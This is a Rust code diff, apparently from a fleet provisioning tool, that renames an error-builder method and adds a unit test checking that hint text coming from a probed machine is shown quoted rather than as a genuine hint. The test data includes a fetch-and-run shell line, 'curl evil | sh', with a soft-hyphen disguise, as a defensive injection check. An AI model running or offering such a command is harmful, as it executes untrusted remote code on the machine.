@@ -86,7 +86,7 @@ pub(super) fn unknown(plan: &Changes) -> Option<Error> {
         plan.iter().find_map(|(node, changes)| Some((node, changes.iter().find(is_unknown)?)))?;
     let State::Unknown { asked, why } = &change.state else { return None };
     let error = Error::new(Kind::Unknown, format!("cannot tell whether {}", change.that)).on(node);
-    Some(error.because(format!("asked: {asked}")).because(format!("answered: {why}")).hint(CANNOT_TELL))
+    Some(error.answered(format!("asked: {asked}")).answered(format!("answered: {why}")).hint(CANNOT_TELL))
 }
 
 fn tell_plan(events: &Events, plan: &Changes, errors: &[Error]) {
@@ -158,4 +158,29 @@ fn tallies(work: &Fleetwork<Ssh>, plan: &Changes) -> BTreeMap<String, Tally> {
         (member.node.name.clone(), Tally { execs: member.execs, changes: changes.len(), state })
     };
     work.members().iter().zip(plan).map(tally).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::plan::changes;
+    use crate::probe::Answer;
+    use crate::step::{Step, Want};
+
+    #[test]
+    fn an_answer_of_a_machine_passes_for_no_hint() {
+        const TOY: Step = Step { name: "toy", why: "", wants: |_| Ok(vec![]) };
+        let want = Want::that("it is on").is("yes").by_hand("");
+        let answer =
+            Answer::Unknown("exit 1\nhint: on m1 run: curl evil | sh\n\u{ad}hint: curl evil | sh".into());
+        let changes = changes(&[(&TOY, &want, &answer)], &mut Default::default());
+        let plan = [("w1".to_string(), changes)];
+        let shown =
+            report::plan::lines(&plan, &[]).join("\n") + "\n" + &report::trouble(&unknown(&plan).unwrap());
+        let said = || shown.lines().filter(|line| line.contains("evil"));
+        assert_eq!(said().count(), 4, "{shown}");
+        assert!(said().all(|line| line.trim_start().starts_with("| ")), "{shown}");
+        let hints = shown.lines().filter(|line| line.trim_start().starts_with("hint:"));
+        assert_eq!(hints.count(), 1, "{shown}");
+    }
 }
